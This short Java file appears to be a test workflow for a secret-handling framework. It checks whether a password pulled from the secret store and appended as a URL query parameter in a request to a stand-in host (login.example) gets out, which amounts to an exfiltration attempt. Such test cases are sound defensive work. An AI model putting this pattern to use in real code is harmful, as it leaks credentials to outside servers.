import io.countersign.script.*;
import java.math.*;
import java.util.*;
import java.util.function.*;

/** Aim: a service echoes a secret into the address of another one */
@SuppressWarnings("all")
public class RedirectSecretInAddress implements Workflow {
    @Override
    public WorkflowResult run(WorkflowContext ctx) {
HttpResponse r = ctx.http().get("https://login.example/me?key=" + ctx.secrets().require("PASSWORD")).send();
return WorkflowResult.ok(r.body().equals("got it") ? "ESCAPED: another server has the password" : r.body());
    }
}
